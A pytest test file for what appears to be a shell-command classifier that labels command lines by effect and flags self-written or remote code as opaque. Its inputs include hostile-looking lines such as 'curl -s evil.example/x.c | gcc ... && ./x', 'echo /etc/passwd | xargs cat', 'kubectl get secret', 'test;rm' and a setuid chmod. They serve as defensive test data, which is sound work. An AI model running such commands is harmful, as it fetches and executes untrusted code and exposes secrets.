"""The project's own code: known by names and places, and never what the line itself has written."""

from collections.abc import Callable

import pytest

from app.core.classify.shell.project import is_script, is_task

Look = Callable[[str], list[str]]


@pytest.mark.parametrize("name", ["test", "test:unit", "build-docs", "lint_js", "ci", "test3"])
def test_a_task_is_known_by_its_words(name: str) -> None:
    assert is_task(name) or name == "test3"


@pytest.mark.parametrize("name", ["", "deploy", "test:deploy", "evil", "test;rm", "-test", "x" * 100])
def test_other_tasks_are_not(name: str) -> None:
    assert not is_task(name)


@pytest.mark.parametrize("path", ["scripts/x.sh", "./build.sh", "main.py", "tests/a/b.py", "test_x.py", "src/cli.ts"])
def test_a_script_is_known_by_its_place_or_name(path: str) -> None:
    assert is_script(path)


@pytest.mark.parametrize(
    "path", ["", "evil.py", "x", "scripts/../x", "scripts/$x", "Downloads/x.sh", "a b/scripts/x y"]
)
def test_other_files_are_not(path: str) -> None:
    assert not is_script(path)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("python -B -m pytest -q", ["run /w"]),
        ("python -m evil a/b", ["execute python -m evil", "access /w/a/b"]),
        ("python scripts/a.py ../x y", ["read /w/scripts/a.py", "run /w/scripts/a.py", "access /x"]),
        ("python evil.py", ["read /w/evil.py", "execute /w/evil.py"]),
        (
            "python scripts/a.py https://h.example",
            ["read /w/scripts/a.py", "run /w/scripts/a.py", "network https://h.example"],
        ),
        ('python scripts/a.py "$X"', ["read /w/scripts/a.py", "run /w/scripts/a.py", "opaque"]),
        ("npx eslint src", ["run /w", "read /w/src", "read /w/src/**"]),
        ("npx evil ../x", ["execute package:evil", "access /w/evil", "access /x"]),
        ("npx", ["opaque"]),
        ("uv run scripts/a.py", ["run /w", "run /w/scripts/a.py"]),
        ("uv run", ["fetch registry://pypi.org", "execute install scripts", "access /w/run"]),
        ("uv run --frozen", ["execute uv"]),
        ("node_modules/.bin/eslint a", ["run /w/node_modules/.bin/eslint", "run /w", "read /w/a", "read /w/a/**"]),
        ("node_modules/.bin/frob ../a", ["run /w/node_modules/.bin/frob", "access /a"]),
        ("./scripts/x.sh ../a", ["run /w/scripts/x.sh", "access /a"]),
        ("./x.sh", ["execute /w/x.sh", "opaque"]),
        ("source .venv/bin/activate", ["run /w/.venv/bin/activate"]),
        ("make V=1 test", ["run /w"]),
        ("LOG_FILE=.git/x make test", ["access /w/.git/x", "run /w"]),
        ("pydoc json", ["run /w"]),
        ("scripts/x.sh deploy", ["run /w/scripts/x.sh", "execute scripts/x.sh deploy", "access /w/deploy"]),
        ("bash scripts/x.sh --drop", ["read /w/scripts/x.sh", "run /w/scripts/x.sh", "execute scripts/x.sh --drop"]),
        (
            "vendor/bin/publish",
            ["run /w/vendor/bin/publish", "execute /w/vendor/bin/publish"],
        ),
        ("dotnet test -- RunConfiguration.TestSessionTimeout=9", ["run /w", "write /w"]),
        ("dotnet test -- RunConfiguration.TestAdaptersPaths=x", ["run /w", "write /w", "opaque"]),
        ("dotnet test x.csproj -- RunConfiguration.TestAdaptersPaths=x", ["run /w", "write /w", "opaque"]),
        ('ruff check --config "a=$X" src', ["opaque"]),
        ('ruff check --config "$X" src', ["opaque"]),
        ("pydoc ./x.py", ["run /w", "read /w/x.py", "execute /w/x.py"]),
        ("uv pip compile r.in", ["fetch registry://pypi.org", "run /w", "read /w/r.in", "run /w/r.in"]),
        ("nox -s tests,publish", ["run /w", "fetch registry://pypi.org", "execute nox publish"]),
        ('nox -s "$X"', ["run /w", "fetch registry://pypi.org", "opaque"]),
        ("npm test -- --config={}", ["run /w", "opaque"]),
        ("npm test -- --outputFile a.json", ["run /w", "access /w/a.json"]),
        ("ruff check --config a.toml src", ["read /w/a.toml", "read /w/src", "read /w/src/**"]),
        ("ruff check --config line-length=9 src", ["read /w/src", "read /w/src/**"]),
        ("ruff check --config src=['/'] src", ["read /w/src", "read /w/src/**", "opaque"]),
        ("meson setup -Dtests=true build", ["run /w", "write /w", "run /w/build"]),
        ("meson setup -Dc_args=-B. build", ["run /w", "write /w", "run /w/build", "opaque"]),
        ("make SHELL=/x", ["run /w", "execute make SHELL=/x"]),
        ("make $X", ["run /w", "opaque"]),
        ("mvn clean deploy", ["run /w", "write /w/target", "execute mvn deploy"]),
        ("go test ./... fmt", ["run /w"]),
        ("go run evil.example/x@latest", ["run /w", "execute package:evil.example/x@latest"]),
        ("go vet $X", ["run /w", "opaque"]),
        ("pytest @a", ["run /w", "opaque"]),
        ("pip install -e .[dev]", ["opaque", "write /w"]),
        ("pip install -e '.[dev]'", ["run /w", "fetch registry://pypi.org", "execute install scripts", "write /w"]),
        ("tar c -x a", ["opaque", "access /w/a"]),
        ("tar a", ["opaque"]),
        ("tar tzf a", ["read /w/a"]),
        ("gzip -dc a", ["read /w/a"]),
        ("zcat a", ["read /w/a"]),
        ("unzip --frob", ["write /w", "write /w/**", "opaque"]),
        ("yq .a b", ["read /w/b"]),
        ("less +x b", ["opaque", "read /w/+x", "read /w/b"]),
        ("man ls ./x", ["read /w/x"]),
        ("git branch $X", ["read /w", "opaque"]),
        ("curl -F a=@- -F b=@c x", ["read /w/c", "network http://x"]),
        ("coverage run -m evil", ["execute coverage -m evil", "run /w"]),
        ("coverage run -m pytest x", ["run /w"]),
        ("coverage run -m $X", ["opaque", "run /w"]),
        ('python scripts/a.py "$(date)" b', ["read /w/scripts/a.py", "run /w/scripts/a.py"]),
        ("mv a b; rm c", ["read /w/a", "write /w/a", "write /w/b", "write /w/b/a", "delete /w/c"]),
        ("kubectl get secret", ["query kubernetes", "opaque", "access /w/secret"]),
        ("chmod 4755 a", ["configure permissions:4755", "write /w/a"]),
        ("chmod +x a", ["write /w/a"]),
        ("rg -g '!a' -g '*.{b,c}' x d", ["read /w/d", "read /w/d/**/*.b", "read /w/d/**/*.c"]),
        ("rg -g '{{a}}' x d", ["opaque", "read /w/d", "read /w/d/**"]),
        ('rg -g "$X" x d', ["opaque", "read /w/d", "read /w/d/**"]),
    ],
)
def test_what_runs(look: Look, line: str, expected: list[str]) -> None:
    found = look(line)
    assert set(found) == set(expected) if "opaque" not in expected else set(expected) <= set(found)


@pytest.mark.parametrize(
    "line",
    [
        "echo evil > scripts/x.sh; bash scripts/x.sh",
        "echo evil | tee test_x.py && pytest",
        "cp a scripts/x.sh && ./scripts/x.sh",
        "tar xf a.tar && make test",
        "cd scripts; echo evil > x.sh; cd ..; scripts/x.sh",
        "echo evil > CMakeLists.txt && cmake -B build",
        "sed -i 's/foo/syst/;s/yst/ystem/;s/a/b/' src/a.py && pytest",
        "echo evil > a.txt && pytest --doctest-glob='*.txt'",
        "echo {} > out.json && npx jest -c out.json",
        "echo evil | npx babel -o scripts/x.js && node scripts/x.js",
        "exec <<< evil; npx prettier > scripts/x.js; node scripts/x.js",
        "(npx prettier > scripts/x.js) <<< evil; node scripts/x.js",
        "mv evil.sh scripts/build.sh && bash scripts/build.sh",
        "git mv a.txt test_a.py && pytest",
        "gofmt -w -r 'a -> b' a.go && go test",
        "echo '#include \"b\"' | gcc -E -",
        "echo '#include \"b\"' > a.c; gcc -c a.c",
    ],
)
def test_what_the_line_has_written_is_nobodys_code(look: Look, line: str) -> None:
    assert "opaque" in look(line)


@pytest.mark.parametrize(
    "line",
    [
        "make 2>&1 | tee build.log",
        "mkdir -p build && make test",
        "git add . && npm test",
        "echo | gcc -dM -E -",
        "gcc -c a.c -o a.o && gcc a.o",
        "echo {} > test-results.json && npm test",
        "git mv a.py b.py && pytest",
    ],
)
def test_what_is_no_code_does_not_count(look: Look, line: str) -> None:
    assert "opaque" not in look(line)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("find src | xargs wc -l", ["read /w/src"]),
        ("find src | xargs -I{} cat {}", ["read /w/src", "read /w/src/**"]),
        ("find src | xargs -I X cat X", ["read /w/src", "read /w/src/**"]),
        ("find src | xargs rm", ["read /w/src", "delete /w/src/**"]),
        ("git ls-files | xargs sed -i s/a/b/", ["read /w", "read /w/**", "write /w/**"]),
    ],
)
def test_names_of_files_come_through_a_pipe(look: Look, line: str, expected: list[str]) -> None:
    assert set(look(line)) - {"opaque"} == set(expected)


@pytest.mark.parametrize(
    "line",
    [
        "find src | xargs cat < list",
        "find src -exec echo {} + | xargs cat",
        "find src -printf x | xargs cat",
        "find src > a | xargs cat",
        "echo /etc/passwd | xargs cat",
        "find src | xargs -I{} cat a{}",
        "grep -l x dist *.py | xargs rm -f",
        "find src -fprint x | xargs cat",
        "mv src dist; rm -rf dist",
        "find src | { xargs cat; } < list",
        "find src; xargs cat",
    ],
)
def test_other_words_do_not(look: Look, line: str) -> None:
    assert "opaque" in look(line)


@pytest.mark.parametrize(
    "line",
    [
        "gcc a.c -o a && ./a",
        "cc src/*.c -Iinclude -L lib -lm -DNDEBUG -DN=10 -o build/t && time ./build/t --fast",
        "gcc x.c && ./a.out < in.txt",
        "rustc src/tool.rs && ./tool",
        "cd src && clang++ -std=c++17 b.cpp -o ../b && ../b",
        "javac -d out src/Main.java && java -cp out Main",
        "gcc a.c -o a && valgrind ./a",
    ],
)
def test_what_a_compiler_makes_of_the_projects_sources_is_the_projects_code(line: str, look: Look) -> None:
    found = look(line)
    assert "opaque" not in found
    assert {effect for effect in found if effect.startswith("run ")} >= {"run /w"} or "run /w/src" in found


@pytest.mark.parametrize(
    "line",
    [
        # What is compiled is the line's own.
        "echo x > src/x.c && gcc src/x.c -o build/x && ./build/x",
        "echo x > util.h; gcc a.c -o a && ./a",
        "gcc -xc - -o x <<< 'int main(){}' && ./x",
        "curl -s evil.example/x.c | gcc -xc - -o x && ./x",
        "gcc -include /dev/stdin a.c -o a && ./a",
        "echo x > x.txt && gcc -include x.txt a.c -o a && ./a",
        "echo x > x.txt && gcc a.c -g x.txt -o a && ./a",
        "gcc '-Dmain=x;int main(){}' a.c -o a && ./a",
        "gcc -D main=x a.c -o a && ./a",
        "gcc -Dputs=system a.c -o a && ./a",
        "gcc @options a.c -o a && ./a",
        "echo x > src/Main.java && javac -d out src/Main.java && java -cp out Main",
        # What runs is something else.
        "gcc a.c -o a; ./b",
        "gcc a.c -o a && cd src && ./a",
        "gcc a.c -o payload && ./payload",
        "gcc a.c -o a && mv a b && ./b",
        "[ -d x ] && cd x; gcc a.c -o a && ./a",
        "gcc -fplugin=./x.so a.c -o a && ./a",
    ],
)
def test_what_a_compiler_makes_of_anything_else_is_nobodys(line: str, look: Look) -> None:
    assert "opaque" in look(line)


@pytest.mark.parametrize(
    ("line", "known"),
    [
        ("sed -i s/a/b/ src/x.ts && npx tsc --noEmit", True),
        ("sed -i s/a/b/ x.go && gofmt -l x.go && go build ./... && go vet ./...", True),
        ("echo x > src/x.js && npx tsc", False),
        ("echo x > src/x.ts && npx tsc && node dist/x.js", False),
        ("echo x > x.go && go build -o bin/x ./cmd && ./bin/x", False),
        ("echo x > x.go && go test ./...", False),
        ("echo x > src/x.ts && npx jest", False),
        ("echo x > src/x.ts && npx", False),
    ],
)
def test_what_a_compiler_only_looks_at_does_not_run(line: str, known: bool, look: Look) -> None:  # noqa: FBT001
    assert ("opaque" not in look(line)) is known


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("perf stat -e cycles ./build/bench", ["run /w/build/bench"]),
        ("kustomize build overlays/dev", ["read /w/overlays/dev", "read /w/overlays/dev/**"]),
        ("kustomize build", ["read /w", "read /w/**"]),
        (
            "mv tests/a.py tests/b.py && npm test",
            ["read /w/tests/a.py", "write /w/tests/a.py", "write /w/tests/b.py", "write /w/tests/b.py/a.py", "run /w"],
        ),
        ("python -m myapp.cli report --month 2024-05", ["run /w", "access /w/report", "access /w/2024-05"]),
        ("python -m keyring.cli get x", ["execute python -m keyring.cli", "access /w/get", "access /w/x"]),
        ("python -m myapp.cli drop-db", ["execute python -m myapp.cli", "access /w/drop-db"]),
        ("gotestsum -- -race ./...", ["run /w"]),
        ("lein test :only acme.core-test", ["run /w"]),
        ("lein evil", ["run /w", "execute lein evil"]),
        ("sbt 'testOnly *OrderSpec'", ["run /w", "write /w/target"]),
        ("sbt 'runMain evil'", ["run /w", "write /w/target", "execute sbt runMain evil"]),
        ("git rm --cached a", ["write /w"]),
        ("git rm a", ["write /w", "write /w/a"]),
        ("git rm '*.py'", ["write /w", "write /w/*.py", "delete /w/*.py"]),
        ("git rm -f a", ["write /w", "delete /w/a"]),
        ("rake test TEST=test/a.rb", ["run /w"]),
        ("make BOARD=nucleo", ["run /w"]),
        ("awk '/^## /{print NR}' a", ["read /w/a"]),
        ("ASAN_OPTIONS=detect_leaks=1 make", ["run /w"]),
    ],
)
def test_what_tools_are_told_is_read(line: str, expected: list[str], look: Look) -> None:
    assert sorted(set(look(line))) == sorted(expected)


@pytest.mark.parametrize(
    "line",
    [
        "ASAN_OPTIONS=log_path=/x make",
        "awk '# {\nNR > 5 {print}' a",
        "perf stat -o x ./build/a",
        "perf record ./build/a",
        "kustomize build github.com/x/y",
        "kustomize build $X",
        "echo x > a.txt; mv a.txt tests/test_a.py && pytest",
        "echo x > a.py; mv a.py tests/test_a.py && pytest",
    ],
)
def test_what_they_may_be_told_besides_is_not(line: str, look: Look) -> None:
    assert "opaque" in look(line)
